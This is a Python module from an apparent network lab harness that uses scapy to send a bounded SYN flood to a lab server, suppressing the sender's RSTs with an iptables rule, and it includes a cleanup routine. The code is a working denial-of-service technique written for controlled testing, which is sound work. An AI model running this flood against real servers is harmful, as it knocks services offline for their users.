"""Raw-packet harness code (scapy): the SYN flood. Runs in the injector (NET_RAW, NET_ADMIN).

A flood of SYNs from random source ports, never completing the handshake, leaves half-open
(SYN_RECV) entries in the server's SYN queue. Two things make them stay:
- the injector's own kernel would answer every SYN-ACK with a RST (it has no socket for
  those ports), and a RST removes the entry; an iptables rule drops those RSTs while the
  flood is on (`syn_flood_cleanup` removes it);
- the server's kernel keeps an entry while it retransmits its SYN-ACK (~1 min by default).

Whether the server's kernel falls back to SYN cookies once its SYN queue is full is decided by the
LISTENER's network namespace (the server's net.ipv4.tcp_syncookies, set by the lab): nothing done in
the injector changes it.

Only the lab's server address is ever sent to. Both commands are bounded in packets and time.
The state of a flood (ports, sequence numbers) is kept in a file in the injector so that the
cleanup can reset exactly those half-open entries.
"""

from __future__ import annotations

import json
import os
import random
import subprocess
import threading
import time

from .client import resolve

MAX_SYNS = 20000


def _state_path(port: int) -> str:
    return f"/tmp/labctl-synflood-{port}.json"


def _rule(address: str) -> list[str]:
    return ["OUTPUT", "-p", "tcp", "-d", address, "--tcp-flags", "RST", "RST", "-j", "DROP"]


def _iptables(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(["iptables", "-w", "2", *args], capture_output=True, text=True, timeout=5)


def _scapy():
    # Narrow imports: `scapy.all` loads every layer and costs seconds on a small CPU share.
    import scapy.arch  # noqa: F401  (sets conf.L3socket / L2listen for this OS)
    from scapy.config import conf
    from scapy.layers.inet import IP, TCP
    from scapy.sendrecv import AsyncSniffer

    return conf, IP, TCP, AsyncSniffer


def syn_flood(host: str, port: int, count: int = 256, listen: float = 1.0, budget: float = 10.0,
              seed: int | None = None) -> dict:
    """Send `count` SYNs from random source ports to host:port, count the SYN-ACKs that come back.

    The RST-drop rule stays in place after this returns (so the half-open entries stay);
    `syn_flood_cleanup` resets the entries and removes the rule.
    """
    started = time.monotonic()
    deadline = started + max(1.0, budget)
    count = max(1, min(int(count), MAX_SYNS))
    address, problem = resolve(host, 5.0)
    if address is None:
        raise OSError(f"cannot resolve {host!r}: {problem}")
    facts: dict = {"target": address, "port": port, "syns_asked": count}

    # Keep our own kernel from resetting the half-open connections.
    present = _iptables("-C", *_rule(address)).returncode == 0
    if not present:
        added = _iptables("-A", *_rule(address))
        if added.returncode != 0:
            facts["rst_rule_error"] = (added.stderr or added.stdout).strip()[-400:]
    facts["rst_rule"] = present or facts.get("rst_rule_error") is None

    conf, IP, TCP, AsyncSniffer = _scapy()
    facts["import_seconds"] = round(time.monotonic() - started, 3)
    rng = random.Random(seed)
    ports = rng.sample(range(1024, 65536), count)
    seqs = [rng.randrange(1, 2**32 - 1) for _ in ports]
    wanted = set(ports)
    synacks: set[int] = set()
    others = {"rst": 0, "other": 0}
    lock = threading.Lock()

    def seen(packet) -> None:
        if TCP not in packet:
            return
        segment = packet[TCP]
        flags = int(segment.flags)
        with lock:
            if segment.dport in wanted and flags & 0x12 == 0x12:
                synacks.add(segment.dport)
            elif flags & 0x04:
                others["rst"] += 1
            else:
                others["other"] += 1

    ready = threading.Event()
    sniffer = AsyncSniffer(filter=f"tcp and src host {address} and src port {port}", prn=seen, store=False,
                           started_callback=ready.set)
    sniffer.start()
    ready.wait(timeout=min(3.0, max(0.1, deadline - time.monotonic())))
    # Save the state before sending, so that a cleanup after a killed flood still finds the ports.
    with open(_state_path(port), "w") as file:
        json.dump({"address": address, "ports": ports, "seqs": seqs}, file)

    sent = 0
    send_started = time.monotonic()
    sock = conf.L3socket()   # one socket for the whole flood (scapy's send() would open one per call)
    try:
        for sport, seq in zip(ports, seqs, strict=True):
            if time.monotonic() >= deadline - listen:
                facts["send_stopped"] = "time budget"
                break
            sock.send(IP(dst=address) / TCP(sport=sport, dport=port, flags="S", seq=seq, window=64240,
                                            options=[("MSS", 1460)]))
            sent += 1
    finally:
        sock.close()
    facts["send_seconds"] = round(time.monotonic() - send_started, 3)
    time.sleep(max(0.0, min(listen, deadline - time.monotonic())))
    try:
        sniffer.stop(join=True)
    except Exception as error:  # a sniffer that never started: report, do not hide the flood's facts
        facts["sniffer_error"] = f"{type(error).__name__}: {error}"
    with lock:
        facts.update(syns_sent=sent, synacks_seen=len(synacks), rsts_seen=others["rst"],
                     other_packets_seen=others["other"])
    facts["seconds"] = round(time.monotonic() - started, 3)
    return facts


def syn_flood_cleanup(host: str, port: int, reset: bool = True, budget: float = 5.0) -> dict:
    """Reset the half-open entries a flood left (RST with the right sequence number) and remove
    the RST-drop rule. Idempotent: safe when there was no flood or it was cleaned already."""
    started = time.monotonic()
    deadline = started + max(0.5, budget)
    facts: dict = {"resets_sent": 0}
    address = None
    state = None
    try:
        with open(_state_path(port)) as file:
            state = json.load(file)
        address = state["address"]
    except (OSError, ValueError, KeyError):
        pass
    if address is None:
        address, problem = resolve(host, min(5.0, budget))
        if address is None:
            raise OSError(f"cannot resolve {host!r}: {problem}")
    if reset and state:
        conf, IP, TCP, _ = _scapy()
        sock = conf.L3socket()
        try:
            for sport, seq in zip(state["ports"], state["seqs"], strict=False):
                if time.monotonic() >= deadline:
                    facts["reset_stopped"] = "time budget"
                    break
                sock.send(IP(dst=address) / TCP(sport=sport, dport=port, flags="R", seq=(seq + 1) % 2**32))
                facts["resets_sent"] += 1
        finally:
            sock.close()
    removed = 0
    for _ in range(10):   # the rule may have been added more than once by killed floods
        if _iptables("-C", *_rule(address)).returncode != 0:
            break
        _iptables("-D", *_rule(address))
        removed += 1
    facts["rules_removed"] = removed
    try:
        os.unlink(_state_path(port))
    except OSError:
        pass
    facts["seconds"] = round(time.monotonic() - started, 3)
    return facts

